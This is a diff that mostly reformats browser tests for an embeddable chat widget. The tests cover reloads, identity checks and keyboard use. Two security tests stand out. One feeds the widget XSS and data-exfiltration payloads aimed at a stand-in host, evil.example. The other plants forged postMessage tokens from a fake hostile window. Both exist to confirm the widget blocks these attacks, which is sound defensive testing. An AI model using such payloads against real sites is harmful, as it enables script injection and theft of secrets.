@@ -34,7 +34,9 @@ scene('a page loads the loader and nothing else, and nothing moves', {}, async (
     page.evaluate(
       () =>
         new Promise((done) => {
-          new PerformanceObserver((list) => done(list.getEntries().reduce((sum, one) => sum + one.value, 0))).observe({
+          new PerformanceObserver((list) =>
+            done(list.getEntries().reduce((sum, one) => sum + one.value, 0)),
+          ).observe({
             type: 'layout-shift',
             buffered: true,
           })
@@ -43,7 +45,14 @@ scene('a page loads the loader and nothing else, and nothing moves', {}, async (
     )
   await openChat(page)
   assert.equal(await shift(), 0)
-  assert.equal(await page.evaluate(() => Object.keys(window).filter((one) => /neipix|npx/i.test(one)).join()), 'Neipix')
+  assert.equal(
+    await page.evaluate(() =>
+      Object.keys(window)
+        .filter((one) => /neipix|npx/i.test(one))
+        .join(),
+    ),
+    'Neipix',
+  )
 })
 
 scene('a question is sent once and answered, with its sources', {}, async ({ mock, visit }) => {
@@ -59,18 +68,22 @@ scene('a question is sent once and answered, with its sources', {}, async ({ moc
   assert.ok((await page.evaluate(() => window.heard)).includes('sent'))
 })
 
-scene('a reload in the middle of an answer shows it from its beginning to its end', {}, async ({ mock, visit }) => {
-  const page = await visit()
-  const frame = await openChat(page)
-  await say(frame, 'Доставка?')
-  await frame.getByText('Доставка по Москве').waitFor()
-  await page.reload()
-  const again = await openChat(page)
-  await again.locator('article[aria-busy=true]').waitFor()
-  await answered(again)
-  assert.equal((await read(again)).length, 2)
-  assert.equal(mock.dialogues.only().dialogue.messages.length, 2)
-})
+scene(
+  'a reload in the middle of an answer shows it from its beginning to its end',
+  {},
+  async ({ mock, visit }) => {
+    const page = await visit()
+    const frame = await openChat(page)
+    await say(frame, 'Доставка?')
+    await frame.getByText('Доставка по Москве').waitFor()
+    await page.reload()
+    const again = await openChat(page)
+    await again.locator('article[aria-busy=true]').waitFor()
+    await answered(again)
+    assert.equal((await read(again)).length, 2)
+    assert.equal(mock.dialogues.only().dialogue.messages.length, 2)
+  },
+)
 
 scene('a network cut in the middle of an answer heals by itself', {}, async ({ mock, visit }) => {
   const page = await visit()
@@ -100,14 +113,20 @@ scene('C-12: lost calls, lost answers, a reload and a second tab send a message 
   await page.reload()
   const other = await visit()
   const [a, b] = [await openChat(page), await openChat(other)]
-  await until(() => mock.dialogues.only().dialogue?.messages.filter((one) => one.clientId).length >= 2, 20_000)
+  await until(
+    () => mock.dialogues.only().dialogue?.messages.filter((one) => one.clientId).length >= 2,
+    20_000,
+  )
   for (const one of [a, b]) {
     await answered(one, 2)
     const ours = (await read(one)).filter((text) => !text.startsWith(spoken))
     assert.deepEqual(ours, ['Первое', 'Второе'])
     await until(async () => (await one.locator('.delivery').count()) === 0)
   }
-  const texts = mock.dialogues.only().dialogue.messages.filter((one) => one.clientId).map((one) => one.text)
+  const texts = mock.dialogues
+    .only()
+    .dialogue.messages.filter((one) => one.clientId)
+    .map((one) => one.text)
   assert.deepEqual(texts, ['Первое', 'Второе'])
 })
 
@@ -159,15 +178,19 @@ scene('C-10: an identity token that is refused is told, and shows nobody', {}, a
   assert.ok((await page.evaluate(() => window.heard)).includes('identify_failed'))
 })
 
-scene('a widget for known visitors says to log in first', { config: { requireIdentity: true } }, async (set) => {
-  const page = await set.visit()
-  const frame = await openChat(page)
-  await frame.getByText('Войдите на сайте, чтобы написать в чат.').waitFor()
-  assert.equal(await frame.getByLabel('Сообщение').getAttribute('readonly'), '')
-  set.mock.dialogues.identities = new Map([['a.b.c', 'u-1']])
-  await page.evaluate(() => window.Neipix('identify', 'a.b.c'))
-  await until(async () => (await frame.getByLabel('Сообщение').getAttribute('readonly')) === null)
-})
+scene(
+  'a widget for known visitors says to log in first',
+  { config: { requireIdentity: true } },
+  async (set) => {
+    const page = await set.visit()
+    const frame = await openChat(page)
+    await frame.getByText('Войдите на сайте, чтобы написать в чат.').waitFor()
+    assert.equal(await frame.getByLabel('Сообщение').getAttribute('readonly'), '')
+    set.mock.dialogues.identities = new Map([['a.b.c', 'u-1']])
+    await page.evaluate(() => window.Neipix('identify', 'a.b.c'))
+    await until(async () => (await frame.getByLabel('Сообщение').getAttribute('readonly')) === null)
+  },
+)
 
 scene('a proof of work is done in a worker, under the policy of the page', {}, async ({ mock, visit }) => {
   mock.proofBits = 14
@@ -179,29 +202,35 @@ scene('a proof of work is done in a worker, under the policy of the page', {}, a
   assert.ok(mock.calls.some((one) => one.includes('/assets/proof.worker')))
 })
 
-scene('W-3: markup in names, questions and answers stays text; nothing leaves', { config: { title: '<img src=x>' } }, async (set) => {
-  const { mock, visit } = set
-  const hostile =
-    '<script>alert(1)</script> ![x](https://evil.example/?q=secret) [a](javascript:alert(1)) <img src=https://evil.example/i> https://evil.example/auto'
-  mock.dialogues.answer = { text: hostile, citations: [], pause: 5 }
-  const page = await visit()
-  const foreign = []
-  page.on('request', (request) => {
-    if (request.url().includes('evil.example')) foreign.push(request.url())
-  })
-  const frame = await openChat(page)
-  await say(frame, '<b>жирно</b>')
-  await until(async () => (await read(frame)).length === 2)
-  const [question, answer] = await read(frame)
-  assert.equal(question, '<b>жирно</b>')
-  assert.match(answer, /<script>alert\(1\)<\/script>/)
-  assert.equal(await frame.locator('article :is(img, script, b, iframe)').count(), 0)
-  assert.deepEqual(
-    await frame.locator('article a').evaluateAll((links) => links.map((one) => [one.protocol, one.rel, one.target])),
-    [['https:', 'noopener noreferrer nofollow ugc', '_blank']],
-  )
-  assert.deepEqual(foreign, [])
-})
+scene(
+  'W-3: markup in names, questions and answers stays text; nothing leaves',
+  { config: { title: '<img src=x>' } },
+  async (set) => {
+    const { mock, visit } = set
+    const hostile =
+      '<script>alert(1)</script> ![x](https://evil.example/?q=secret) [a](javascript:alert(1)) <img src=https://evil.example/i> https://evil.example/auto'
+    mock.dialogues.answer = { text: hostile, citations: [], pause: 5 }
+    const page = await visit()
+    const foreign = []
+    page.on('request', (request) => {
+      if (request.url().includes('evil.example')) foreign.push(request.url())
+    })
+    const frame = await openChat(page)
+    await say(frame, '<b>жирно</b>')
+    await until(async () => (await read(frame)).length === 2)
+    const [question, answer] = await read(frame)
+    assert.equal(question, '<b>жирно</b>')
+    assert.match(answer, /<script>alert\(1\)<\/script>/)
+    assert.equal(await frame.locator('article :is(img, script, b, iframe)').count(), 0)
+    assert.deepEqual(
+      await frame
+        .locator('article a')
+        .evaluateAll((links) => links.map((one) => [one.protocol, one.rel, one.target])),
+      [['https:', 'noopener noreferrer nofollow ugc', '_blank']],
+    )
+    assert.deepEqual(foreign, [])
+  },
+)
 
 test('W-4: a site that is not listed cannot show the chat', async () => {
   const set = await stage(browser, { listed: false })
@@ -215,36 +244,40 @@ test('W-4: a site that is not listed cannot show the chat', async () => {
   }
 })
 
-scene('W-5: messages of another window than the loader, or past its port, change nothing', {}, async (set) => {
-  const { mock, visit, context } = set
-  // The frame itself stands in a closed root: nobody but the loader has its window.
-  const page = await visit()
-  const frame = await openChat(page)
-  await say(frame, 'Вопрос')
-  await answered(frame)
-  const token = await frame.evaluate(() => localStorage.getItem('npx:visitor:wk_demo'))
-  const popup = context.waitForEvent('page')
-  await page.evaluate(() => {
-    // What looks like the frame's words, from a window that is not the frame.
-    window.postMessage({ neipix: 'ready', v: 1 }, '*')
-    window.postMessage({ t: 'token', token: 'planted' }, '*')
-    window.open(`${location.origin.replace('shop.', 'evil.')}/shop.css`)
-  })
-  const evil = await popup
-  await evil.waitForLoadState()
-  await evil.evaluate(() => {
-    opener.postMessage({ neipix: 'ready', v: 1 }, '*')
-    opener.postMessage({ t: 'token', token: 'planted' }, '*')
-  })
-  // A second greeting of the right window is one too many, too.
-  await frame.evaluate(() => window.dispatchEvent(new MessageEvent('message', { data: { t: 'reset' } })))
-  await say(frame, 'Второй вопрос')
-  await answered(frame, 2)
-  assert.equal(await frame.evaluate(() => localStorage.getItem('npx:visitor:wk_demo')), token)
-  assert.equal(await page.evaluate(() => localStorage.getItem('npx:wk_demo')), token)
-  assert.equal(mock.dialogues.visitors.size, 1)
-  assert.ok(!mock.calls.some((one) => one.endsWith(':reset')))
-})
+scene(
+  'W-5: messages of another window than the loader, or past its port, change nothing',
+  {},
+  async (set) => {
+    const { mock, visit, context } = set
+    // The frame itself stands in a closed root: nobody but the loader has its window.
+    const page = await visit()
+    const frame = await openChat(page)
+    await say(frame, 'Вопрос')
+    await answered(frame)
+    const token = await frame.evaluate(() => localStorage.getItem('npx:visitor:wk_demo'))
+    const popup = context.waitForEvent('page')
+    await page.evaluate(() => {
+      // What looks like the frame's words, from a window that is not the frame.
+      window.postMessage({ neipix: 'ready', v: 1 }, '*')
+      window.postMessage({ t: 'token', token: 'planted' }, '*')
+      window.open(`${location.origin.replace('shop.', 'evil.')}/shop.css`)
+    })
+    const evil = await popup
+    await evil.waitForLoadState()
+    await evil.evaluate(() => {
+      opener.postMessage({ neipix: 'ready', v: 1 }, '*')
+      opener.postMessage({ t: 'token', token: 'planted' }, '*')
+    })
+    // A second greeting of the right window is one too many, too.
+    await frame.evaluate(() => window.dispatchEvent(new MessageEvent('message', { data: { t: 'reset' } })))
+    await say(frame, 'Второй вопрос')
+    await answered(frame, 2)
+    assert.equal(await frame.evaluate(() => localStorage.getItem('npx:visitor:wk_demo')), token)
+    assert.equal(await page.evaluate(() => localStorage.getItem('npx:wk_demo')), token)
+    assert.equal(mock.dialogues.visitors.size, 1)
+    assert.ok(!mock.calls.some((one) => one.endsWith(':reset')))
+  },
+)
 
 scene('by keyboard alone: open, write, send, close, and the focus comes back', {}, async ({ visit }) => {
   const page = await visit()
